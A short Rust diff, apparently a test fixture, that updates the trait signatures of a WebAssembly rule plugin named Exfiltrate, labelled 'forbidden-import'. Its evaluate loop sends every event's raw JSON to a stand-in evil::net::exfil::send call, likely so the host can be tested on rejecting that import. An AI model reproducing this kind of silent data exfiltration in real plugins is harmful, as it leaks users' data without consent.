@@ -16,13 +16,14 @@ wit_bindgen::generate!({
 pub struct Exfiltrate;
 
 impl Rule for Exfiltrate {
+    type Params = ();
     type State = ();
 
-    fn manifest() -> Manifest {
+    fn manifest((): &()) -> Manifest {
         Manifest::new("forbidden-import", "0.1.0").raw_json()
     }
 
-    fn evaluate(_: &mut (), events: Events<'_>, _: &mut Context<'_>) -> Result<(), Error> {
+    fn evaluate((): &(), _: &mut (), events: Events<'_>, _: &mut Context<'_>) -> Result<(), Error> {
         for event in events.iter() {
             #[cfg(target_arch = "wasm32")]
             evil::net::exfil::send(event.raw_json().unwrap_or_default());
